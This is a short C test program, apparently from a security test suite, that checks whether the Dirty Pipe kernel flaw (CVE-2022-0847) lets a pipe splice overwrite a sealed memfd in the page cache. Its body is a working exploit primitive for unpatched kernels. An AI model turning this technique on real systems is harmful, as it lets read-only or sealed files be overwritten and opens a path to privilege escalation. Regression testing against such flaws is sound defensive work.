// SPDX-License-Identifier: GPL-2.0-only
// CVE-2022-0847, Dirty Pipe: what is spliced into a pipe that was full once is
// written over in the page cache.  Here a sealed memfd, which is what keeps the
// program of the tools that enter a guest.
// Modes: guest bare
// (it needs the mistake of kernels before 5.16.11)
#include <sys/mman.h>

#include "attack.h"

static void fill_and_drain(int *pipe)
{
	static char buf[65536];

	NEED(write(pipe[1], buf, sizeof(buf)) == sizeof(buf));
	NEED(read(pipe[0], buf, sizeof(buf)) == sizeof(buf));
}

int main(void)
{
	int fd = memfd_create("sealed", MFD_ALLOW_SEALING), ends[2];
	loff_t from = 0;
	char buf[4] = "";

	NEED(fd >= 0);
	NEED(write(fd, "0123", 4) == 4);
	NEED(!fcntl(fd, F_ADD_SEALS, F_SEAL_SEAL | F_SEAL_SHRINK |
		    F_SEAL_GROW | F_SEAL_WRITE));
	NEED(!pipe(ends));
	fill_and_drain(ends);
	if (splice(fd, &from, ends[1], NULL, 1, 0) != 1)
		refused("splice");
	NEED(write(ends[1], "xx", 2) == 2);
	NEED(pread(fd, buf, 4, 0) == 4);
	if (memcmp(buf, "0123", 4))
		worked("a sealed file is written");
	harmless("splice: the pipe has a page of its own");
}
